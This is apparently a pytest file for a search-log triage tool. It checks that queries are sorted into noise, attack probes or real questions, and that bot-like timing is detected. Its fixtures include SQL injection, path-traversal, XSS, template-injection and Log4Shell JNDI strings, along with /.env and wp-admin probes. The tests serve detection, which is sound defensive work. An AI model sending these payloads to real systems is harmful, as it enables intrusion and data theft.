"""What asks for nothing is told apart, and questions that look like it are not."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta

import numpy as np
import pytest

from signaltriage.gap_types import SearchEvent
from signaltriage.gaps.bots import machines
from signaltriage.gaps.noise import is_probe, why_noise

START = datetime(2026, 3, 2, 9, tzinfo=UTC)


@pytest.mark.parametrize(
    "query",
    [
        *("", "   ", "🙂🙂", "?!", "q", "zzzz", "jjjjjjjj", "asdf", "qwertz", "test", "test123", "hello", "hi hello"),
        *(
            "' OR 1=1--",
            "admin'--",
            "UNION SELECT a, b FROM users",
            "../../../../etc/passwd",
            "<script>alert(1)</script>",
        ),
        *("${jndi:ldap://x.example/a}", "wp-admin", "/.env", "{{7*7}}", "1; DROP TABLE x", "google translate", "login"),
        *(
            "Re: Re: FW: calendar",
            "Bonjour Madame, suite à notre conversation de ce matin",
            "PM0048812207NL",
            "weather leeds",
        ),
        *("14 Kowhai St deliver round back", "FAO Mrs D Larkspur, 4 Tern Row, d@guesthouse.example", "laundry near me"),
    ],
)
def test_noise(query: str) -> None:
    assert why_noise(query, frozenset())


@pytest.mark.parametrize(
    "query",
    [
        *("vpn", "2fa", "ERR-1042", "كيف أعيد تعيين كلمة المرور", "重置密码", "重", "LL-207 duplicate document number"),
        *("Hi there, why was my card declined?", "how do I drop a table in sql", "weather api returns 500 on save"),
        *("How to configure something like phpmyadmin in windows and linux?", "what does ${2:-${1}} mean in bash"),
        *("test environment login fails", "Dear team my invoice is wrong, can you help", "o'brien's account"),
    ],
)
def test_questions(query: str) -> None:
    assert not why_noise(query, frozenset())


def test_what_the_base_knows_is_no_gibberish() -> None:
    assert why_noise("aaaa", frozenset())
    assert not why_noise("aaaa", frozenset(("aaaa",)))
    assert is_probe("admin'--")


def _asked(user: str, seconds: list[float], word: str = "word") -> list[SearchEvent]:
    return [SearchEvent(f"{word} {i}", 0, user, START + timedelta(seconds=s)) for i, s in enumerate(seconds)]


def test_even_intervals_give_a_machine_away() -> None:
    people = [
        e
        for k in range(30)
        for e in _asked(f"p{k}", np.random.default_rng(k).exponential(300, 12).cumsum().round().tolist())
    ]
    crawler = _asked("crawler", [360.0 * i for i in range(10)])
    jitter = _asked("jitter", (600 * np.arange(20) + np.random.default_rng(1).uniform(-20, 20, 20)).round().tolist())
    fast = _asked("fast", [float(i) for i in range(8)])
    found = machines([*people, *crawler, *jitter, *fast])
    assert set(found) == {"crawler", "jitter", "fast"}
    assert "6 minutes" in found["crawler"]


def test_people_are_no_machines() -> None:
    typing = [SearchEvent("password"[: i + 1], 0, "t", START + timedelta(seconds=i)) for i in range(8)]
    days = [SearchEvent(f"q{i}", 0, "d", START.replace(hour=0) + timedelta(days=i)) for i in range(30)]
    unknown = [SearchEvent(f"q{i}", 0, "n") for i in range(30)]
    assert not machines(typing)
    assert not machines(days)
    assert not machines(unknown)


def test_who_only_tries_to_break_in() -> None:
    assert "break in" in machines([SearchEvent("/.env", 0, "x"), SearchEvent("wp-admin", 0, "x")])["x"]
    assert not machines([SearchEvent("/.env", 0, "x"), SearchEvent("vpn", 0, "x"), SearchEvent("wifi", 0, "x")])
